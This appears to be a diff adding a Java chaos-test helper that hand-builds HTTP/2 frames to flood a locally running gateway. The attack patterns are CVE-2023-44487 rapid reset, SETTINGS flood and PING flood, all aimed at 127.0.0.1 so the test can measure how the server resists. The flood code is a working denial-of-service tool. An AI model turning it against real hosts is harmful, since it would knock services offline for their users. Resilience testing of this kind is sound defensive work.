@@ -1,0 +1,147 @@
+package dev.protocollab.e2e.chaos;
+
+import java.io.ByteArrayOutputStream;
+import java.io.IOException;
+import java.io.InputStream;
+import java.io.OutputStream;
+import java.net.InetSocketAddress;
+import java.net.Socket;
+import java.nio.charset.StandardCharsets;
+import java.time.Duration;
+import java.util.concurrent.ExecutorService;
+import java.util.concurrent.Executors;
+import java.util.concurrent.atomic.AtomicLong;
+import java.util.concurrent.locks.LockSupport;
+
+/**
+ * Abusive HTTP/2 clients written frame by frame over cleartext (h2c, prior knowledge), since no client
+ * library will misbehave on purpose: the rapid-reset pattern of CVE-2023-44487 (HEADERS then RST_STREAM at
+ * once, stream after stream), a SETTINGS flood and a PING flood, the last two without reading the
+ * acknowledgements the server owes. Each attacker reconnects whenever the server closes on it, and counts.
+ */
+final class Http2Flood implements AutoCloseable {
+
+    enum Kind {
+        RAPID_RESET,
+        SETTINGS_FLOOD,
+        PING_FLOOD
+    }
+
+    private static final byte[] PREFACE = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII);
+
+    private final int port;
+    private final String path;
+    private final ExecutorService attackers = Executors.newVirtualThreadPerTaskExecutor();
+    private volatile boolean running = true;
+    final AtomicLong frames = new AtomicLong();
+    final AtomicLong connections = new AtomicLong();
+    final AtomicLong closedByServer = new AtomicLong();
+
+    Http2Flood(int port, String path) {
+        this.port = port;
+        this.path = path;
+    }
+
+    /**
+     * {@code connectionsInParallel} connections, each sending a batch of 50 abusive frames (rapid reset: 50
+     * streams opened and cancelled) every {@code period}. Paced, so the attacker does not simply take the
+     * shared machine's CPU away from everyone, which would measure the machine, not the gateway.
+     */
+    Http2Flood start(Kind kind, int connectionsInParallel, Duration period) {
+        for (int i = 0; i < connectionsInParallel; i++) {
+            attackers.execute(() -> {
+                while (running) {
+                    attackOnce(kind, period);
+                }
+            });
+        }
+        return this;
+    }
+
+    private void attackOnce(Kind kind, Duration period) {
+        try (Socket socket = new Socket()) {
+            socket.connect(new InetSocketAddress("127.0.0.1", port), 2_000);
+            connections.incrementAndGet();
+            OutputStream out = socket.getOutputStream();
+            if (kind == Kind.RAPID_RESET) {
+                // read and discard what the server sends, so only the resets are the load
+                InputStream in = socket.getInputStream();
+                attackers.execute(() -> drain(in));
+            }
+            out.write(PREFACE);
+            out.write(frame(0x4, 0, 0, new byte[0])); // SETTINGS
+            int stream = 1;
+            long next = System.nanoTime();
+            while (running) {
+                next += period.toNanos();
+                LockSupport.parkNanos(next - System.nanoTime()); // pacing the attacker, not waiting for a result
+                ByteArrayOutputStream batch = new ByteArrayOutputStream();
+                for (int i = 0; i < 50; i++) {
+                    switch (kind) {
+                        case RAPID_RESET -> {
+                            batch.writeBytes(frame(0x1, 0x5, stream, headers())); // END_STREAM | END_HEADERS
+                            batch.writeBytes(frame(0x3, 0, stream, new byte[] {0, 0, 0, 8})); // RST_STREAM CANCEL
+                            stream += 2;
+                        }
+                        case SETTINGS_FLOOD ->
+                            batch.writeBytes(frame(0x4, 0, 0, new byte[] {0, 3, 0, 0, 0, 100})); // MAX_CONCURRENT
+                        case PING_FLOOD -> batch.writeBytes(frame(0x6, 0, 0, new byte[8]));
+                    }
+                }
+                out.write(batch.toByteArray());
+                frames.addAndGet(kind == Kind.RAPID_RESET ? 100 : 50);
+            }
+        } catch (IOException e) {
+            closedByServer.incrementAndGet();
+        }
+    }
+
+    private static void drain(InputStream in) {
+        byte[] buffer = new byte[16 * 1024];
+        try {
+            while (in.read(buffer) >= 0) {
+                // discard
+            }
+        } catch (IOException e) {
+            // closed
+        }
+    }
+
+    /** GET {@code path} on this host: HPACK static-table entries and literals without Huffman coding. */
+    private byte[] headers() {
+        ByteArrayOutputStream block = new ByteArrayOutputStream();
+        block.write(0x82); // :method GET
+        block.write(0x86); // :scheme http
+        literal(block, 0x04, path); // :path, name from the static table
+        literal(block, 0x01, "127.0.0.1:" + port); // :authority
+        return block.toByteArray();
+    }
+
+    private static void literal(ByteArrayOutputStream block, int nameIndex, String value) {
+        byte[] bytes = value.getBytes(StandardCharsets.US_ASCII);
+        block.write(nameIndex); // literal header field without indexing, indexed name (4-bit prefix)
+        block.write(bytes.length); // no Huffman, length < 127
+        block.writeBytes(bytes);
+    }
+
+    private static byte[] frame(int type, int flags, int stream, byte[] payload) {
+        ByteArrayOutputStream frame = new ByteArrayOutputStream(9 + payload.length);
+        frame.write(payload.length >>> 16);
+        frame.write(payload.length >>> 8);
+        frame.write(payload.length);
+        frame.write(type);
+        frame.write(flags);
+        frame.write(stream >>> 24);
+        frame.write(stream >>> 16);
+        frame.write(stream >>> 8);
+        frame.write(stream);
+        frame.writeBytes(payload);
+        return frame.toByteArray();
+    }
+
+    @Override
+    public void close() {
+        running = false;
+        attackers.shutdownNow();
+    }
+}
